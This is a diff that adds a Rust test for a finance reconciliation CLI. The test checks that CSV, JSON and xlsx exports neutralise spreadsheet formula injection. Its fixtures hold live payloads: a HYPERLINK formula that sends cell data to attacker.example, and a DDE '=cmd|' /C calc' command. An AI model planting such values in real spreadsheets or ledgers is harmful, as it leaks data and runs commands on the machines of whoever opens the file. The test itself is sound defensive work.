@@ -562,6 +562,147 @@ async fn a_ledger_line_in_another_currency_is_in_no_total() {
     assert_eq!(bucket[4..], ["1249.5", "0"]);
 }
 
+/// Text a spreadsheet would run as a formula, from both sides: a PO number AHEAD holds, a
+/// vendor and an invoice number in the ledger. The CSV reports, which people open in a
+/// spreadsheet, neutralise them (a `'` in front); numbers stay as they are, negative ones
+/// included (a credit note of -12.50, days past due of -5). JSON stays exact; xlsx holds them
+/// as text, never as formulas.
+#[tokio::test]
+async fn formula_text_is_neutralised_in_the_finance_csv() {
+    const PO: &str = "=HYPERLINK(\"https://attacker.example/?d=\"&A1,\"open\")";
+    const VENDOR: &str = "=cmd|' /C calc'!A0";
+    let h = Harness::new().await;
+    let config = h.write_config("");
+    let config = config.to_str().unwrap();
+    let doc = h
+        .sandbox
+        .control()
+        .create_invoice(&NewInvoice {
+            purchase_order_number: Some(PO.into()),
+            fulfillment_order_number: None,
+            lines: vec![("SRV-1U-X10".into(), 1)],
+            due_days: Some(5),
+        })
+        .unwrap();
+    let a = doc["invoice_number"].as_str().unwrap().to_string();
+    let today = doc["invoice_date"].as_str().unwrap().to_string();
+    let due = doc["due_date"].as_str().unwrap().to_string();
+    let out = cmd_async(h.dir.path(), &["--config", config, "pull", "invoices"]).await;
+    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
+    let ledger = h.dir.path().join("ap_open.csv");
+    std::fs::write(
+        &ledger,
+        format!(
+            "Invoice Number,Vendor,Invoice Date,Due Date,Amount,Amount Paid,Open Balance,Currency\n\
+             {a},\"{VENDOR}\",{today},{due},\"1,249.50\",0.00,\"1,249.50\",USD\n\
+             +CN-7,@SUM(1+1),{today},{due},-12.50,0.00,-12.50,USD\n"
+        ),
+    )
+    .unwrap();
+    let report = |format: &str, out_file: Option<&str>| {
+        let mut args = vec![
+            "--config".to_string(),
+            config.to_string(),
+            "export".into(),
+            "reconciliation".into(),
+            "--ledger".into(),
+            ledger.to_str().unwrap().into(),
+            "--ledger-mapping".into(),
+            LEDGER_MAPPING.into(),
+            "--as-of".into(),
+            today.clone(),
+            "--format".into(),
+            format.into(),
+        ];
+        if let Some(f) = out_file {
+            args.extend(["--out".to_string(), f.to_string()]);
+        }
+        let dir = h.dir.path().to_path_buf();
+        async move {
+            let refs: Vec<&str> = args.iter().map(String::as_str).collect();
+            cmd_async(&dir, &refs).await
+        }
+    };
+
+    let out = report("csv", None).await;
+    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
+    let csv = String::from_utf8(out.stdout).unwrap();
+    let rows = detail(&csv);
+    let matched = &rows[&("matched".to_string(), a.clone())];
+    assert_eq!(matched["PO Number"], format!("'{PO}"));
+    assert_eq!(matched["Vendor"], format!("'{VENDOR}"));
+    assert_eq!(matched["Days Past Due"], "-5");
+    assert_eq!(matched["AHEAD Balance Due"], "1249.50");
+    let credit = rows
+        .get(&("missing_in_ahead".to_string(), "'+CN-7".to_string()))
+        .unwrap_or_else(|| panic!("no neutralised +CN-7 in\n{csv}"));
+    assert_eq!(credit["Vendor"], "'@SUM(1+1)");
+    assert_eq!(credit["ERP Open Balance"], "-12.50");
+    assert_eq!(credit["Days Past Due"], "-5");
+    let by_status = totals(&csv, "Totals by status");
+    assert_eq!(
+        by_status[&("missing_in_ahead".to_string(), "USD".to_string())],
+        ["1", "", "-12.50", ""]
+    );
+
+    // JSON lines are for programs: exact.
+    let out = report("json", None).await;
+    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
+    let stdout = String::from_utf8(out.stdout).unwrap();
+    let line: serde_json::Value = stdout
+        .lines()
+        .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap())
+        .find(|l| l["section"] == "detail" && l["invoice_number"] == a.as_str())
+        .unwrap();
+    assert_eq!(line["purchase_order_number"], PO);
+    assert_eq!(line["vendor"], VENDOR);
+    assert!(stdout.contains("\"invoice_number\":\"+CN-7\""), "{stdout}");
+
+    // xlsx: the text as it is, stored as text; no cell holds a formula.
+    let out = report("xlsx", Some("recon.xlsx")).await;
+    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
+    let mut book: Xlsx<_> = calamine::open_workbook(h.dir.path().join("recon.xlsx")).unwrap();
+    let sheet = book.worksheet_range("Reconciliation").unwrap();
+    let row = sheet
+        .rows()
+        .find(|r| r[1] == Data::String(a.clone()))
+        .expect("the matched row");
+    assert!(row.contains(&Data::String(PO.into())), "{row:?}");
+    assert!(row.contains(&Data::String(VENDOR.into())), "{row:?}");
+    for name in ["Reconciliation", "Totals"] {
+        let formulas = book.worksheet_formula(name).unwrap();
+        assert_eq!(formulas.used_cells().count(), 0, "{name}: {formulas:?}");
+    }
+
+    // The aging view is for people too.
+    let out = cmd_async(
+        h.dir.path(),
+        &[
+            "--config",
+            config,
+            "export",
+            "invoices",
+            "--outstanding",
+            "--as-of",
+            &today,
+        ],
+    )
+    .await;
+    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
+    let csv = String::from_utf8(out.stdout).unwrap();
+    let table = csv.split("\n\n").next().unwrap();
+    let mut reader = csv::Reader::from_reader(table.as_bytes());
+    let row = reader
+        .records()
+        .map(Result::unwrap)
+        .find(|r| r[0] == *a)
+        .unwrap_or_else(|| panic!("no {a} in\n{csv}"));
+    assert_eq!(
+        [&row[1], &row[5], &row[10]],
+        [format!("'{PO}").as_str(), "-5", "1249.50"]
+    );
+}
+
 fn check_workbook(path: &Path, mismatch: &str) {
     let mut book: Xlsx<_> = calamine::open_workbook(path).expect("the xlsx opens");
     assert_eq!(book.sheet_names(), ["Reconciliation", "Totals"]);
